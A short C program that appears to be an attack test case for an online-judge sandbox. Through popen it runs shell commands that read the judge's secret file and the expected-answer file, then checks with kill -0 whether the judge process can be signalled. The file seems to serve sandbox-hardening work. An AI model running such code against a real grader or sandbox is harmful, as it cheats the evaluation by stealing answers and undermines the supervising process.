// verdict: AC
// Lets a shell read the secret and kill the judge. Whether there is a shell does not matter.
#include "attack.h"

int main(void)
{
    learn();
    char command[16384], line[4096];
    snprintf(command, sizeof command,
             "cat '%s' 2>&-; cat '%s' 2>&-; kill -0 %d 2>&- && echo killed", secret, answer, judge);
    FILE *shell = popen(command, "r");
    while (shell && fgets(line, sizeof line, shell))
        fell("%s", line);
    return done();
}
